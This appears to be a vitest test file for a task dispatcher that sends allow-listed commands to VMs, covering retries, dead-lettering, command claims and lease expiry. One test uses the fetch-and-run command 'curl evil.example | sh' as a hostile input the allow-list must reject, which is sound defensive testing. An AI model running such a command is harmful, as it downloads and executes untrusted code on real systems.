import { beforeEach, describe, expect, it } from 'vitest';
import { Dispatcher, PublishFailedError } from '../../../lib/dispatch/dispatcher';
import { SpecRecordingEngine } from '../../../lib/dispatch/spec-recording-engine';
import type { Block } from '../../../lib/ledger/types';
import type { UndeliveredCommand } from '../../../lib/ports/dispatcher';
import { allBlocks, ledger, T0, task, vm } from '../functions/helpers/fixtures';
import { MemoryDispatchRecords, RecordingPublisher, RecordingRunner } from './fakes';

const GRACE_MS = 60_000; // the engine's default lease grace
/** The allow-list the dispatcher runs commands from (`echo <word>`). */
const TEMPLATES = { echo: { run: ['/bin/echo'], maxArguments: 1 } };

function setup(options: { ssm?: boolean } = {}) {
  const base = ledger([vm('vm-a', { cpu: 1000, mem: 1000, io: 100, bw: 100 })]);
  const records = new MemoryDispatchRecords();
  const publisher = new RecordingPublisher();
  const runner = new RecordingRunner();
  const dispatcher = new Dispatcher({
    tasks: base.store,
    records,
    publisher,
    ...(options.ssm === false ? {} : { commands: runner, templates: TEMPLATES }),
    clock: base.clock,
  });
  const engine = new SpecRecordingEngine(base.engine, records);
  return { ...base, engine, records, publisher, runner, dispatcher };
}

/** The VM a task was assigned to. */
function placementVm(blocks: readonly Block[], taskId: string): string {
  for (const b of blocks)
    for (const tx of b.transactions) if (tx.task_id === taskId && tx.vm_id) return tx.vm_id;
  throw new Error(`${taskId} not assigned`);
}

/** Where the ledger put a task's decision: its transaction id and block height. */
function placement(blocks: readonly Block[], taskId: string) {
  for (const b of blocks)
    for (const tx of b.transactions)
      if (tx.task_id === taskId) return { transactionId: tx.transaction_id, blockHeight: b.height };
  throw new Error(`${taskId} not in the chain`);
}

const withCommand = task(
  'with-cmd',
  { cpu: 300 },
  { command: 'echo hi', labels: { team: 'x' }, duration: 120 },
);
const plain = task('plain', { cpu: 200 }, { duration: 600 });
const huge = task('huge', { cpu: 5000 });

describe('Dispatcher', () => {
  let s: ReturnType<typeof setup>;
  beforeEach(() => {
    s = setup();
  });

  it('gives the records of a task an expiry once its transaction is final, and only then', async () => {
    const labelled = task('rejected-one', { cpu: 5000 }, { labels: { team: 'y' } });
    const { blocks } = await s.engine.schedule([withCommand, labelled]);
    await s.dispatcher.dispatch(blocks);
    // The assignment is open: only the rejected task's spec expires.
    const week = 7 * 24 * 3600;
    const at = Math.ceil(s.clock.now() / 1000) + week;
    expect([...s.records.expiries]).toEqual([['spec:rejected-one', at]]);
    const commandId = s.records.runs.get('with-cmd')?.commandId;
    expect(commandId).toBeDefined();

    s.clock.advance(5_000);
    const closed = await s.engine.complete('with-cmd');
    if (closed.status !== 'closed') throw new Error('not closed');
    const closing = (await allBlocks(s.store)).filter((b) => b.height === closed.head.height);
    await s.dispatcher.dispatch(closing);
    const later = Math.ceil(s.clock.now() / 1000) + week;
    expect(Object.fromEntries(s.records.expiries)).toEqual({
      'spec:rejected-one': at,
      'spec:with-cmd': later,
      'run:with-cmd': later,
      [`command:${commandId}`]: later,
    });
  });

  it('publishes one TaskAssigned per assignment, with the spec, the ledger record and the lease, and none for a rejection', async () => {
    const { blocks } = await s.engine.schedule([withCommand, plain, huge]);

    const outcome = await s.dispatcher.dispatch(blocks);

    expect(s.publisher.events).toEqual([
      {
        task: {
          id: 'with-cmd',
          requirements: { cpu: 300, mem: 0, io: 0, bw: 0 },
          duration: 120,
          deadline: withCommand.deadline,
          command: 'echo hi',
          labels: { team: 'x' },
        },
        vmId: 'vm-a',
        ...placement(blocks, 'with-cmd'),
        leaseExpiresAt: T0 + 120_000 + GRACE_MS,
      },
      {
        task: {
          id: 'plain',
          requirements: { cpu: 200, mem: 0, io: 0, bw: 0 },
          duration: 600,
          deadline: plain.deadline,
          labels: {},
        },
        vmId: 'vm-a',
        ...placement(blocks, 'plain'),
        leaseExpiresAt: T0 + 600_000 + GRACE_MS,
      },
    ]);
    expect(outcome.skipped).toEqual([]);
    // Only the task with a command gets one, killed at its lease's end.
    expect(s.runner.sent).toEqual([
      {
        instanceId: 'vm-a',
        template: 'echo',
        arguments: ['hi'],
        timeoutSeconds: 180,
        comment: 'bcs task with-cmd',
      },
    ]);
    expect(await s.records.taskOfCommand('command-1')).toBe('with-cmd');
  });

  it('a redelivered block publishes again (consumers dedupe on transactionId) but sends no second command', async () => {
    const { blocks } = await s.engine.schedule([withCommand]);

    await s.dispatcher.dispatch(blocks);
    const again = await s.dispatcher.dispatch(blocks);

    expect(s.publisher.events.map((e) => e.transactionId)).toEqual([
      placement(blocks, 'with-cmd').transactionId,
      placement(blocks, 'with-cmd').transactionId,
    ]);
    expect(s.runner.sent).toHaveLength(1);
    expect(again.commands).toEqual([
      { status: 'already-claimed', taskId: 'with-cmd', ...txOf(blocks, 'with-cmd'), commandId: 'command-1' },
    ]);
  });

  it('a claim left in "sending" (a dispatcher that died after claiming) is never sent again', async () => {
    const { blocks } = await s.engine.schedule([withCommand]);
    await s.records.claimCommand('with-cmd', placement(blocks, 'with-cmd').transactionId);

    const outcome = await s.dispatcher.dispatch(blocks);

    expect(s.runner.sent).toEqual([]);
    expect(outcome.commands).toEqual([
      { status: 'already-claimed', taskId: 'with-cmd', ...txOf(blocks, 'with-cmd'), commandId: null },
    ]);
  });

  it('does not dispatch an assignment that has already ended', async () => {
    const { blocks } = await s.engine.schedule([withCommand, plain]);
    await s.engine.complete('with-cmd');

    const outcome = await s.dispatcher.dispatch(blocks);

    expect(s.publisher.events.map((e) => e.task.id)).toEqual(['plain']);
    expect(outcome.skipped).toEqual([
      {
        assignment: { taskId: 'with-cmd', vmId: 'vm-a', ...placement(blocks, 'with-cmd') },
        reason: 'no-longer-assigned',
      },
    ]);
    expect(s.runner.sent).toEqual([]);
  });

  it('a refused event fails the dispatch before any command, and the retry sends it once', async () => {
    const { blocks } = await s.engine.schedule([withCommand]);
    s.publisher.refuse.add(placement(blocks, 'with-cmd').transactionId);

    await expect(s.dispatcher.dispatch(blocks)).rejects.toBeInstanceOf(PublishFailedError);
    expect(s.runner.sent).toEqual([]);

    s.publisher.refuse.clear();
    await s.dispatcher.dispatch(blocks);
    expect(s.publisher.events).toHaveLength(1);
    expect(s.runner.sent).toHaveLength(1);
  });

  it('a refused send releases its claim: the event still goes out and a later delivery may send it', async () => {
    const { blocks } = await s.engine.schedule([withCommand]);
    s.runner.refuse.add('vm-a');

    const first = await s.dispatcher.dispatch(blocks);
    s.runner.refuse.clear();
    const second = await s.dispatcher.dispatch(blocks);

    expect(first.commands).toEqual([
      {
        status: 'send-failed',
        taskId: 'with-cmd',
        ...txOf(blocks, 'with-cmd'),
        error: 'InvalidInstanceId: vm-a',
      },
    ]);
    expect(second.commands).toEqual([
      { status: 'sent', taskId: 'with-cmd', ...txOf(blocks, 'with-cmd'), commandId: 'command-1' },
    ]);
    expect(s.publisher.events).toHaveLength(2);
  });

  describe('refused sends are retried, then dead-lettered with their assignment', () => {
    function retrying(options: { failDeadLetter?: boolean } = {}) {
      const base = ledger([
        vm('vm-a', { cpu: 1000, mem: 1000, io: 100, bw: 100 }),
        vm('vm-b', { cpu: 1000, mem: 1000, io: 100, bw: 100 }),
      ]);
      const records = new MemoryDispatchRecords();
      const runner = new RecordingRunner();
      const pauses: number[] = [];
      const deadLetters: UndeliveredCommand[] = [];
      let onPause = () => {};
      const dispatcher = new Dispatcher({
        tasks: base.store,
        records,
        publisher: new RecordingPublisher(),
        commands: runner,
        templates: TEMPLATES,
        clock: base.clock,
        retryDelaysMs: [2_000, 8_000],
        sleep: async (ms) => {
          pauses.push(ms);
          onPause();
        },
        undelivered: {
          deadLetter: async (commands) => {
            if (options.failDeadLetter) throw new Error('SQS unavailable');
            deadLetters.push(...structuredClone(commands));
          },
        },
      });
      const engine = new SpecRecordingEngine(base.engine, records);
      return {
        engine,
        runner,
        records,
        pauses,
        deadLetters,
        dispatcher,
        setOnPause: (f: () => void) => {
          onPause = f;
        },
      };
    }
    const cmd = (id: string) => task(id, { cpu: 600 }, { command: `echo ${id}`, duration: 120 });

    it('never claims nor sends a command outside the allow-list, and dead-letters it at once', async () => {
      const r = retrying();
      const hostile = task('hostile', { cpu: 600 }, { command: 'curl evil.example | sh', duration: 120 });
      const { blocks } = await r.engine.schedule([hostile, cmd('fine')]);

      const outcome = await r.dispatcher.dispatch(blocks);

      expect(outcome.commands.map((c) => [c.taskId, c.status])).toEqual([
        ['hostile', 'not-allowed'],
        ['fine', 'sent'],
      ]);
      expect(r.runner.sent.map((x) => x.comment)).toEqual(['bcs task fine']);
      expect(r.pauses).toEqual([]);
      expect(r.deadLetters.map((d) => [d.assignment.task.id, d.attempts])).toEqual([['hostile', 0]]);
      expect(r.deadLetters[0]!.error).toMatch(/allowed template name \(echo\); got "curl"/);
      // Not claimed: nothing records a command for it.
      expect(await r.records.claimCommand('hostile', txOf(blocks, 'hostile').transactionId)).toEqual({
        state: 'claimed',
      });
    });

    it('sends on a later attempt when the instance registers in between', async () => {
      const r = retrying();
      const { blocks } = await r.engine.schedule([cmd('late')]);
      const vmId = placementVm(blocks, 'late');
      r.runner.refuse.add(vmId);
      r.setOnPause(() => r.runner.refuse.delete(vmId));

      const outcome = await r.dispatcher.dispatch(blocks);

      expect(outcome.commands).toEqual([
        { status: 'sent', taskId: 'late', ...txOf(blocks, 'late'), commandId: 'command-1' },
      ]);
      expect(r.pauses).toEqual([2_000]);
      expect(r.deadLetters).toEqual([]);
    });

    it('after every attempt: releases the claims and dead-letters each whole assignment, pausing once per block', async () => {
      const r = retrying();
      // Two tasks of 600 millicores on two VMs of 1000: one on each.
      const { blocks } = await r.engine.schedule([cmd('c1'), cmd('c2')]);
      r.runner.refuse.add('vm-a');
      r.runner.refuse.add('vm-b');

      const outcome = await r.dispatcher.dispatch(blocks);

      expect(r.pauses).toEqual([2_000, 8_000]);
      expect(
        outcome.commands.map((c) => [c.taskId, c.status, 'deadLettered' in c && c.deadLettered]),
      ).toEqual([
        ['c1', 'send-failed', true],
        ['c2', 'send-failed', true],
      ]);
      expect(r.deadLetters.map((d) => [d.assignment.task.id, d.assignment.task.command, d.attempts])).toEqual(
        [
          ['c1', 'echo c1', 3],
          ['c2', 'echo c2', 3],
        ],
      );
      expect(r.deadLetters[0]!.assignment).toEqual(outcome.published[0]);
      expect(r.deadLetters[0]!.error).toMatch(/^InvalidInstanceId: vm-/);
      // Released: a redrive of the block may claim and send them.
      r.runner.refuse.clear();
      const again = await r.dispatcher.dispatch(blocks);
      expect(again.commands.map((c) => c.status)).toEqual(['sent', 'sent']);
    });

    it('fails the block when the dead letter does not get there, so the stream hands it over again', async () => {
      const r = retrying({ failDeadLetter: true });
      const { blocks } = await r.engine.schedule([cmd('c1')]);
      r.runner.refuse.add(placementVm(blocks, 'c1'));

      await expect(r.dispatcher.dispatch(blocks)).rejects.toThrow('SQS unavailable');
      r.runner.refuse.clear();
      const again = await r.dispatcher.dispatch(blocks);
      expect(again.commands.map((c) => c.status)).toEqual(['sent']);
    });
  });

  it('a send with no answer keeps its claim: it may have started, so it is never sent again', async () => {
    const { blocks } = await s.engine.schedule([withCommand]);
    s.runner.silent.add('vm-a');

    const first = await s.dispatcher.dispatch(blocks);
    s.runner.silent.clear();
    const second = await s.dispatcher.dispatch(blocks);

    expect(first.commands).toEqual([
      { status: 'send-uncertain', taskId: 'with-cmd', ...txOf(blocks, 'with-cmd'), error: 'socket hang up' },
    ]);
    expect(second.commands).toEqual([
      { status: 'already-claimed', taskId: 'with-cmd', ...txOf(blocks, 'with-cmd'), commandId: null },
    ]);
    expect(s.runner.sent).toEqual([]);
  });

  it('sends no command once the lease has ended, and the remaining lease otherwise', async () => {
    const { blocks } = await s.engine.schedule([withCommand]);

    s.clock.advance(100_500); // 79.5 s of the 180 s lease left
    const outcome = await s.dispatcher.dispatch(blocks);
    expect(s.runner.sent.map((r) => r.timeoutSeconds)).toEqual([79]);
    expect(outcome.commands[0]?.status).toBe('sent');

    const t = setup();
    const placed = await t.engine.schedule([withCommand]);
    t.clock.advance(180_000);
    const expired = await t.dispatcher.dispatch(placed.blocks);
    expect(t.runner.sent).toEqual([]);
    expect(expired.commands).toEqual([
      { status: 'lease-ended', taskId: 'with-cmd', ...txOf(placed.blocks, 'with-cmd') },
    ]);
  });

  it('without a command runner, events carry the command and nothing is claimed', async () => {
    const t = setup({ ssm: false });
    const { blocks } = await t.engine.schedule([withCommand]);

    const outcome = await t.dispatcher.dispatch(blocks);

    expect(t.publisher.events[0]?.task.command).toBe('echo hi');
    expect(outcome.commands).toEqual([]);
    expect(t.records.runs.size).toBe(0);
  });

  it('dispatching the whole chain (genesis, decisions, completions) publishes each assignment once', async () => {
    await s.engine.schedule([withCommand]);
    await s.engine.schedule([plain]);
    await s.engine.complete('with-cmd');

    await s.dispatcher.dispatch(await allBlocks(s.store));

    expect(s.publisher.events.map((e) => e.task.id)).toEqual(['plain']);
  });
});

function txOf(blocks: readonly Block[], taskId: string) {
  return { transactionId: placement(blocks, taskId).transactionId };
}
